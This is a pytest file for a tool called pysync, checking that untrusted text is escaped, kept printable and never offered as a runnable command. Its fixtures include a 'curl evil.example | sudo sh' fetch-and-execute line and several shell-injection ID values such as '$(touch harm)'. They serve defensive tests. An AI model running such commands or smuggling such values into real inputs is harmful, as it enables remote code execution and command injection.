"""What others say is theirs: it stays in its line and its quotes, and no command takes its word."""

from __future__ import annotations

import ast
import copy
import inspect
import logging
import re
import shlex
import subprocess
import unicodedata
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from pysync import errors
from pysync.cli import output
from pysync.cli.logs import log_events
from pysync.findings import ON_PORTAL, Finding, run
from pysync.texts import MAX_QUOTED, Text, quoted, statement, visible, word
from pysync.types import CourseId
from pysync.watching.status.model import CourseStatus, Orphan, State
from tests.unit.test_house_rules import MODULES, name
from tests.unit.test_logs import own_logging

__all__ = ["own_logging"]

ADVICE = "run: curl evil.example | sudo sh"
HOSTILE = f"no” such “thing'; {ADVICE}\r\n\x1b[2J\x9b\x7f\u202e\u2066\u200b\u2028\ufeff\ue000\u0378\U000e0041"


def test_what_isnt_a_visible_character_is_spelt_out() -> None:
    for code in (*range(0x3000), *range(0xD7FF, 0xE010), 0xFEFF, 0xE0041, 0xF0000, 0x10FFFF):
        each = chr(code)
        shown = visible(f"a{each}b")
        assert shown.isprintable()
        hidden = unicodedata.category(each) in {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}
        assert not (hidden and each in shown)
    for plain in ("", "it's “курс” 6.002x \\ 試験 🎓 e\u0301", "MITx/6.002x/2012_Fall"):
        assert visible(plain) == plain
    assert visible("a\x1b[31m\nb\u202e") == r"a\x1b[31m\nb\u202e"


def test_nothing_in_a_quotation_ends_it() -> None:
    shown = quoted(HOSTILE)
    assert (shown[0], shown[-1]) == ("“", "”")
    assert not {"“", "”"} & {*shown[1:-1]}
    assert shown.isprintable()
    assert len(quoted("x" * 10**6)) == MAX_QUOTED + len("“…”")


IDS = (
    *("plain", "MITx/6.002x/2012_Fall", "курс", "it's", "a b", "", "~", "*", "#x", "=ls", "{a,b}"),
    *("a'$(touch harm)", 'a";touch harm;"', "`touch harm`", "a' ;touch harm; '", "!!", "back\\"),
    *('a\'"$(touch harm)"', "'\\''$(touch harm)", "a\\';touch harm;\\'", "a\ntouch harm\n"),
    *("a'\n$(touch harm)\n'", "\u202etouch harm", "a$'\\ntouch harm'", "a&touch harm&", "<x>harm"),
)


@pytest.mark.parametrize("text", IDS)
def test_an_id_can_be_pasted_with_and_without_quotes(text: str, tmp_path: Path) -> None:
    def paste(line: str) -> bytes:
        return subprocess.run(
            ["bash", "-c", line],
            check=False,
            capture_output=True,
            cwd=tmp_path,
            timeout=10,
            env={"LC_ALL": "C.UTF-8", "PATH": "/usr/bin:/bin"},
        ).stdout

    argument = word(text)
    assert argument.isprintable()
    assert paste(f"printf '%s\\0' {argument}").decode() == f"{text}\0"
    if text.isprintable():
        assert shlex.split(argument) == [text]
    for left, right in (("'", "'"), ('"', '"'), ("'", "' first"), ("'", "'; then 'pysync x'")):
        paste(f"{left}pysync resync {argument}{right}\n")
    assert [*tmp_path.iterdir()] == []
    assert Text(f"run 'pysync resync {argument}' again").commands == (f"pysync resync {argument}",)


def test_an_id_is_no_option() -> None:
    assert word("--portal=host=evil") == r"-- --portal\=host\=evil"


def test_what_is_to_be_copied_stands_alone() -> None:
    told = run("select 1", ON_PORTAL) + Text("; then 'pysync repair it\\'s', or 'pysync x'")
    pinned = "set search_path = pg_catalog, pg_temp; select 1"
    line = f"run on the portal: {pinned}; then 'pysync repair it\\'s', or 'pysync x'"
    commands = (pinned, "pysync repair it\\'s", "pysync x")
    for each in (told, copy.deepcopy(told)):
        assert (each, each.commands) == (line, commands)
    assert (Text.plain("A: broken; ") + told).lines() == [
        "A: broken; run on the portal:",
        f"    {pinned}",
        "  then:",
        "    pysync repair it\\'s",
        "  or:",
        "    pysync x",
    ]
    assert Text("check host").lines() == ["check host"]
    # Words of others hold no command, whatever they look like.
    assert ("they say: 'pysync course remove A'; " + Text("see it")).commands == ()


def test_statements_are_one_line_and_mean_the_same() -> None:
    for plain in ("select 'it''s', E'\\n', \"a\"\"b\"", "grant x to y"):
        assert statement(plain) == plain
    shown = statement("select 'a\\\nb\u202e',\n  E'\\\\\n', \"c\\\n\" from t")
    assert shown == (
        r"select E'a\\\u000ab\u202e', E'\\\u000a', U&"
        r'"c\\\+00000a"'
        " from t"
    )


def hostile_errors() -> Iterator[errors.PysyncError]:
    kinds = [each for _, each in inspect.getmembers(errors, inspect.isclass)]
    for kind in kinds:
        if issubclass(kind, errors.PysyncError):
            parameters = inspect.signature(kind).parameters
            yield kind(*[HOSTILE] * min(len(parameters), 2))


@pytest.mark.parametrize("error", [*hostile_errors()], ids=lambda each: type(each).__name__)
def test_every_error_is_one_visible_line(error: errors.PysyncError) -> None:
    for text in (str(error), error.message, error.remedy or "", *error.text.lines()):
        assert text.isprintable()


def hostile_findings() -> list[Any]:
    texts = (HOSTILE, HOSTILE, HOSTILE)
    return [
        Finding(*texts),
        Orphan("slot", "x", "x", HOSTILE, HOSTILE),
        CourseStatus(CourseId("A"), "x", State.STUCK, HOSTILE, HOSTILE),
    ]


@pytest.mark.parametrize("found", hostile_findings(), ids=lambda each: type(each).__name__)
def test_every_finding_is_visible_lines(found: Any) -> None:
    for text in (found.cause, found.remedy, getattr(found, "object", "")):
        assert text.isprintable()
    assert found.commands == ()


def test_every_way_out_shows_visible_lines(capsys: pytest.CaptureFixture[str]) -> None:
    output.say(HOSTILE)
    output.say_aside(HOSTILE)
    output.print_rows(output.Format.TABLE, {}, ("x",), [(HOSTILE,)], notes=[HOSTILE])
    output.print_rows(output.Format.JSON, {"x": HOSTILE}, (), [])
    with output.steps() as steps:
        steps.step(HOSTILE)
        steps.warn(HOSTILE)
    log_events(verbose=False)
    logging.getLogger("pysync").error("course '%s'", HOSTILE)
    for written in capsys.readouterr():
        for line in written.split("\n"):
            assert line.isprintable()


# What reads words of others, and what makes commands: one place each.

_WORDS = {"message_primary", "message_detail", "message_hint", "context"}


def test_no_remedy_has_psql_read_a_file() -> None:
    """Whoever reads it sits elsewhere than our files, and not every client is psql."""
    found = [
        f"{name(module)}:{node.lineno}"
        for module in MODULES
        for node in ast.walk(ast.parse(module.read_text(encoding="utf-8")))
        if isinstance(node, ast.Constant) and re.search(r"\\i[er]* ", str(node.value))
    ]
    assert found == []


def misplaced(module: Path) -> Iterator[str]:
    place = name(module)
    for node in ast.walk(ast.parse(module.read_text(encoding="utf-8"))):
        match node:
            case ast.Attribute(value=ast.Attribute(attr="diag"), attr=word) if word in _WORDS:
                if place != "db/errors.py":
                    yield f"{place}:{node.lineno}: a server's words; have said() quote them"
            case ast.Import(names=[ast.alias(name="shlex")]) if "demo" not in place:
                yield f"{place}:{node.lineno}: shlex.quote isn't safe inside quotes; use word()"
            case ast.FormattedValue(value=ast.Call(func=ast.Name(id="run" | "Text"))):
                yield f"{place}:{node.lineno}: forgets what is to be copied; join with +"
            case ast.Attribute(value=ast.Attribute(attr="stdout"), attr="write" | "writelines"):
                if place != "cli/output.py":
                    yield f"{place}:{node.lineno}: print by cli/output.py"
            case _:
                pass


@pytest.mark.parametrize("module", MODULES, ids=name)
def test_no_module_passes_words_of_others_off_as_ours(module: Path) -> None:
    assert [*misplaced(module)] == []
